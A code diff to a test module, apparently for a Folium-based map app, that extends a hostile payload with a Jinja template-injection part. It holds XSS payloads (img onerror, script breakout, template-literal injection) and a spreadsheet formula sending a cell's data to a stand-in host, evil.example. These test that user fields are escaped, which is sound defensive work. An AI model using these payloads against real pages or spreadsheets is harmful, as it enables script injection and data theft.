@@ -4,7 +4,7 @@
 attribute and adding an element with a handler (``innerHTML``), closing the inline
 ``<script>`` that carries a map's data, and ending or interpolating the JavaScript
 template literal Folium writes tooltips and popups into. Each one, if it ran, would set
-``window.__xss``. :func:`hostile_world` stores it (behind a label naming the field) in
+``window.__xss``; its Jinja part, if the server evaluated it, would show ``sstilive``. :func:`hostile_world` stores it (behind a label naming the field) in
 every text field a user or an import can set.
 """
 
@@ -23,9 +23,11 @@ from tests.layouts import DISTRICT, code, grid_layout, xy
 
 PAYLOAD = ('N"><img src=x onerror="window.__xss=1">'
            "</script><script>window.__xss=2</script>"
-           "${window.__xss=3}`")
-#: What must never appear in a page: the live forms of the payload's parts.
-LIVE = ("<img src=x onerror", "<script>window.__xss", "</script><script>")
+           "${window.__xss=3}`"
+           "{{ 'ssti' ~ 'live' }}{% if true %}sstiblock{% endif %}{# c #}")
+#: What must never appear in a page: the live forms of the payload's parts (the last:
+#: the Jinja part evaluated on the server, as Branca's templates once did).
+LIVE = ("<img src=x onerror", "<script>window.__xss", "</script><script>", "sstilive")
 #: A formula a spreadsheet would run: it sends the neighbouring cell to another server.
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
 #: The issue's reference and the toilet's name (a formula too).
